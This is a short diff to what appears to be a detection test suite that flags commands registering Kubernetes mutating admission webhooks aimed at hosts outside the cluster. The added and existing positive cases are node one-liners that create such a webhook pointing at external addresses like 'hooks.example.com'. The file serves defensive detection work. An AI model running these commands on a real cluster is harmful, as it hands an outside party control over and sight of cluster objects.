@@ -60,6 +60,11 @@ indicatorTable(commandWebhookOutside, {
       '-e',
       "const k8s=require('@kubernetes/client-node');const c=new k8s.KubeConfig();c.loadFromCluster();c.makeApiClient(k8s.AdmissionregistrationV1Api).createMutatingWebhookConfiguration({body:{metadata:{name:'a'},webhooks:[{name:'a',clientConfig:{url:'https://203.0.113.7/'}}]}})",
     ),
+    'a body that JavaScript writes as text': runs(
+      'node',
+      '-e',
+      "fetch('https://kubernetes.default.svc/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations',{method:'POST',body:JSON.stringify({kind:'MutatingWebhookConfiguration',webhooks:[{name:'a',clientConfig:{url:'https://hooks.example.com/m'}}]})})",
+    ),
   },
   staysSilent: {
     'a service of the cluster': script(apply(configuration('{service: {name: hooks, namespace: shop}}'))),
